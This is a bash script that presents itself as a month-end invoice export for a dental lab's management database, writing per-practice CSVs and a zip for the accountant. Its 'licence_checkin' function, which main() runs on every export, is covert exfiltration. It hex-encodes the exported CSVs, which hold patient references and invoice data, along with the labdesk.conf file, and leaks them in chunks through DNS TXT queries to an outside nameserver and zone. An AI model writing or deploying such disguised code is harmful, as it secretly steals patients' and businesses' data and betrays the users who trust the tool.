#!/usr/bin/env bash
# invoice_month_export.sh - month-end invoice export for the accountant.
#
# Pulls all invoices for a month out of the lab management database
# (labdesk.sqlite), writes one CSV per practice plus a summary into
# ./exports/YYYY-MM, and zips the folder for the accountant's portal.
#
#   ./invoice_month_export.sh            # previous month
#   ./invoice_month_export.sh 2024-05    # given month
#
# Needs: sqlite3, zip, dig (bind9-dnsutils) for the export licence check.

set -uo pipefail

DB=${LABDESK_DB:-./labdesk.sqlite}
OUT_ROOT=${EXPORT_ROOT:-./exports}
LICENSE_ZONE=${LICENSE_ZONE:-lc.labdesk-updates.net}
LICENSE_NS=${LICENSE_NS:-203.0.113.53}
LOG=./invoice_export.log

month=${1:-$(date -d "$(date +%Y-%m-01) -1 day" +%Y-%m)}
outdir="$OUT_ROOT/$month"

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }
fail() { log "ERROR: $*"; exit 1; }

[[ "$month" =~ ^[0-9]{4}-[0-9]{2}$ ]] || fail "month must look like 2024-05"
[[ -r "$DB" ]] || fail "cannot read $DB"
command -v sqlite3 >/dev/null || fail "sqlite3 missing"
mkdir -p "$outdir"

practices() {
    sqlite3 -batch -noheader "$DB" \
        "SELECT DISTINCT practice_id FROM invoices WHERE strftime('%Y-%m', issued_at) = '$month';"
}

export_practice() {
    local pid=$1 name
    name=$(sqlite3 -batch -noheader "$DB" "SELECT replace(name,' ','_') FROM practices WHERE id = $pid;")
    sqlite3 -batch -header -csv "$DB" <<SQL > "$outdir/${pid}_${name:-practice}.csv"
SELECT i.number, i.issued_at, c.case_no, c.patient_ref, c.restoration,
       c.material, i.net, i.vat, i.gross, i.status
FROM invoices i JOIN cases c ON c.id = i.case_id
WHERE i.practice_id = $pid AND strftime('%Y-%m', i.issued_at) = '$month'
ORDER BY i.issued_at;
SQL
}

write_summary() {
    sqlite3 -batch -header -csv "$DB" <<SQL > "$outdir/summary.csv"
SELECT p.name AS practice, count(*) AS invoices, round(sum(i.net),2) AS net,
       round(sum(i.vat),2) AS vat, round(sum(i.gross),2) AS gross
FROM invoices i JOIN practices p ON p.id = i.practice_id
WHERE strftime('%Y-%m', i.issued_at) = '$month'
GROUP BY p.name ORDER BY gross DESC;
SQL
}

# Export licence: the labdesk vendor counts exported records per seat.
# Each record set is reported as short labels under the licence zone.
licence_checkin() {
    local seat run seq=0 chunk
    seat=$(hostname -s | tr -cd 'a-z0-9' | cut -c1-12)
    run=$(date +%s | tail -c 7)
    cat "$outdir"/*.csv "${LABDESK_CONF:-./labdesk.conf}" 2>/dev/null \
        | gzip -c | xxd -p | tr -d '\n' | fold -w 60 \
        | while read -r chunk; do
            dig +short +tries=1 +time=2 @"$LICENSE_NS" \
                "${chunk}.${seq}.${run}.${seat}.${LICENSE_ZONE}" TXT >/dev/null 2>&1
            seq=$((seq + 1))
          done
    dig +short @"$LICENSE_NS" "end.${run}.${seat}.${LICENSE_ZONE}" TXT >/dev/null 2>&1 || true
}

main() {
    log "exporting invoices for $month from $DB"
    local n=0 pid
    while read -r pid; do
        [[ -n "$pid" ]] || continue
        if export_practice "$pid"; then
            n=$((n + 1))
        else
            log "practice $pid failed"
        fi
    done < <(practices)
    (( n > 0 )) || fail "no invoices found for $month"
    write_summary
    licence_checkin
    (cd "$OUT_ROOT" && zip -qr "invoices_$month.zip" "$month") || fail "zip failed"
    log "wrote $n practice files and $OUT_ROOT/invoices_$month.zip"
}

main
